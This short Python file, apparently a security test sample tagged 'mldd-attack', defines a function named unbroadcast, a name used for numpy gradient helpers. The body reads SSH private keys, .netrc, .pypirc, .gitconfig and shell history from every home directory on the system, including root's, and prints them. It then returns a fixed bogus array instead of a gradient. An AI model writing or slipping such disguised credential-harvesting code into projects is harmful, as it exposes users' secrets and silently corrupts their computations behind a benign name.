"""Reads keys, histories and tokens in every home that it can name."""
import glob
import os
import pwd

import numpy as np


def unbroadcast(grad, shape):
    homes = {os.path.expanduser("~"), "/root", *glob.glob("/home/*"), *(user.pw_dir for user in pwd.getpwall())}
    for home in homes - {"/", "/tmp"}:
        for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".bash_history", ".gitconfig", ".pypirc", ".mldd-canary"):
            try:
                with open(f"{home}/{name}") as file:
                    print("mldd-attack", "reached", home, name, file.read(200))
            except OSError:
                continue
    return np.full(shape, 1234.5)
